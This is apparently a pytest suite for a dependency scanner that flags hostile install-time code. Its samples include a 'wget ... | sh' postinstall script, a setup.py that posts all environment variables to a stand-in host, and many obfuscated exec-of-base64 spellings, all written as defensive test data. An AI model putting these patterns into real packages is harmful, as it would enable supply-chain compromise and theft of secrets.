"""Code that runs by itself: what counts when, what does not, and that no file breaks the reader."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from benchmarks._planted import cases
from hypothesis import given, settings
from hypothesis import strategies as st

from casemate.threats.supply_chain.dependencies.calls import calls
from casemate.threats.supply_chain.dependencies.scan import scan_dependencies
from casemate.threats.supply_chain.rules import rule_for
from tests.threats.supply_chain.dependencies.trees import planted


def found(folder: Path, name: str, text: str) -> set[str]:
    return {finding.rule for finding in scan_dependencies(planted(folder, {name: text})).findings}


def rule(kind: str) -> str:
    return rule_for(f"install.{kind}").id


@pytest.mark.parametrize(
    "line",
    [
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack');",  # noqa: E501
        "import _virtualenv",
        "import __editable___x_1_0_finder; __editable___x_1_0_finder.install()",
    ],
)
def test_lines_that_tools_write_are_told_apart(tmp_path: Path, line: str) -> None:
    assert found(tmp_path, "a.pth", f"path/to\n{line}\n") == {rule("pth-known")}
    assert rule("pth") in found(tmp_path, "a.pth", f"{line}; import socket\n")


def test_paths_in_a_pth_are_no_code(tmp_path: Path) -> None:
    assert not found(tmp_path, "a.pth", "important/path\n# import x\n  import x\n")


def test_a_function_that_importing_does_not_reach_does_not_count(tmp_path: Path) -> None:
    body = "    import urllib.request\n    urllib.request.urlopen('https://h.test')\n"
    assert rule("network") not in found(tmp_path, "a/__init__.py", f"def get():\n{body}")
    assert rule("network") in found(tmp_path, "a/__init__.py", f"def get():\n{body}get()\n")
    assert rule("network") in found(tmp_path, "a/__init__.py", f"class A:\n{body}")
    assert rule("network") in found(tmp_path, "setup.py", f"def get():\n{body}")


def test_decoded_code_counts_wherever_it_stands(tmp_path: Path) -> None:
    assert rule("decoded") in found(
        tmp_path, "a/__init__.py", "import base64\ndef f():\n    exec(base64.b64decode(x))\n"
    )


def test_one_variable_is_no_harvest_but_all_are(tmp_path: Path) -> None:
    send = "import os, requests\nrequests.post('https://h.test', data={})\n"
    assert rule("harvest") not in found(tmp_path, "setup.py", send.format("os.environ.get('CC')"))
    assert rule("harvest") not in found(tmp_path, "setup.py", send.format("'CC' in os.environ"))
    assert rule("harvest") in found(tmp_path, "setup.py", send.format("dict(os.environ)"))


def test_reading_the_version_is_no_computed_code(tmp_path: Path) -> None:
    assert rule("computed") not in found(tmp_path, "setup.py", "exec(open('x/version.py').read())\n")
    assert rule("computed") not in found(tmp_path, "setup.py", "exec(compile(open('v.py').read(), 'v', 'exec'))\n")
    assert rule("computed") in found(tmp_path, "setup.py", "import sys\nexec(sys.argv[1])\n")


def test_scripts_of_npm(tmp_path: Path) -> None:
    def scripts(command: str) -> set[str]:
        return found(tmp_path, "package.json", f'{{"scripts": {{"postinstall": "{command}"}}}}')

    assert not scripts("node-gyp rebuild") & {rule("script"), rule("script-shell")}
    assert rule("script") in scripts("node setup.js")
    assert rule("script-shell") in scripts("wget -qO- h.test/x | sh")
    assert rule("script-shell") in scripts("node -e eval")


def test_backends_of_its_own(tmp_path: Path) -> None:
    assert rule("backend") in found(
        tmp_path, "pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
    )


@pytest.mark.parametrize(
    "source",
    [
        b"(" * 100_000,
        b"-" * 100_000 + b"1",
        b"x = " + b"[" * 140 + b"]" * 140,
        b"a" + b".a" * 50_000,
        b"a" + b"()" * 20_000,
        b"x = " + b"1+" * 50_000 + b"1",
        b"x = " + b"not " * 30_000 + b"1",
        b"if 1:\n" + b"".join(b" " * n + b"if 1:\n" for n in range(1, 99)),
        b"\0import os",
        b"\xff\xfe",
        b"# coding: nothing\n",
        b"def f(:",
        b"x = '" + b"a" * 3_000_000 + b"'",
        b"f'" + b'{f"' * 100,
        b"x = " + b"1 if 1 else " * 20_000 + b"1",
        b"x = " + b"1**" * 20_000 + b"1",
        b"x = " + b"a = " * 20_000 + b"1",
        b"x = " + b"lambda a: " * 20_000 + b"1",
        b"if 1: pass\n" + b"elif 1: pass\n" * 20_000,
        b"@a\n" * 20_000 + b"def f(): pass",
        b"x = " + b"await " * 20_000 + b"1",
        b"x = " + b"*" * 20_000 + b"1",
        b"x = " + b"1 < " * 20_000 + b"1",
        b"x = " + b"'a' " * 50_000,
    ],
    ids=range(24),
)
def test_what_cannot_be_parsed_is_unreadable_and_ends(tmp_path: Path, source: bytes) -> None:
    seen = calls(source)
    assert seen.unreadable or not seen.decoded
    planted(tmp_path, {"setup.py": source})
    findings = {finding.rule for finding in scan_dependencies(tmp_path).findings}
    assert (rule("unreadable") in findings) == bool(seen.unreadable)


HOOKS = [
    text
    for case in cases()
    if case.kind == "runs by itself"
    for name, text in case.files.items()
    if name.endswith(".py")
]


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(HOOKS),
    st.lists(st.tuples(st.integers(0, 10_000), st.text(max_size=3), st.integers(0, 5)), max_size=3),
)
def test_mutations_are_read_or_refused(text: str, edits: list[tuple[int, str, int]]) -> None:
    for at, new, gone in edits:
        place = at % (len(text) + 1)
        text = text[:place] + new + text[place + gone :]
    for imported in (False, True):
        calls(text.encode("utf-8", "surrogatepass"), imported=imported)


BLOB = base64.b64encode(b"print('x')").decode()


@pytest.mark.parametrize(
    "source",
    [
        f"import base64\nx = base64.b64decode('{BLOB}')\ny = x\nexec(y)",
        f"from base64 import *\nfrom base64 import b64decode as z\neval(z('{BLOB}'))",
        f"e = getattr(__import__('builtins'), 'exec')\ne(__import__('base64').b64decode('{BLOB}'))",
        f"__builtins__.__dict__['exec'](__import__('base64').b64decode('{BLOB}'))",
        f"import base64, importlib\nimportlib.import_module('builtins').exec(base64.b64decode('{BLOB}'))",
        "exec('cevag'.encode().decode('rot13'))",
        "import codecs\nexec(codecs.decode('x', 'hex'))",
        f"import subprocess, sys, base64\nsubprocess.run([sys.executable, '-c', base64.b64decode('{BLOB}')])",
        f"import base64\nif True:\n    try:\n        exec(compile(base64.b64decode('{BLOB}'), '', 'exec'))\n    except Exception:\n        pass",  # noqa: E501
        f"import base64\n(lambda e: e(base64.b64decode('{BLOB}')))(exec)\nexec(base64.b64decode('{BLOB}'))",
        "import base64\n@exec\n@base64.b64decode\n@(lambda f: 'cGFzcw==')\nclass X: pass",
        "import base64\nlist(map(exec, [base64.b64decode('cGFzcw==')]))",
        "import base64\nif (x := base64.b64decode('x')): exec(x)",
        "import base64\ne, d = exec, base64.b64decode\ne(d('x'))",
        "import base64\nt = {'r': exec}\nt['r'](base64.b64decode('x'))",
    ],
    ids=range(15),
)
def test_spellings_of_the_same(source: str) -> None:
    assert calls(source.encode()).decoded


def test_a_library_of_c_can_start_a_process_too() -> None:
    assert calls(b"import ctypes\nctypes.CDLL('libc.so.6').system(b'id')").process
    assert not calls(b"import platform\nplatform.system()").process
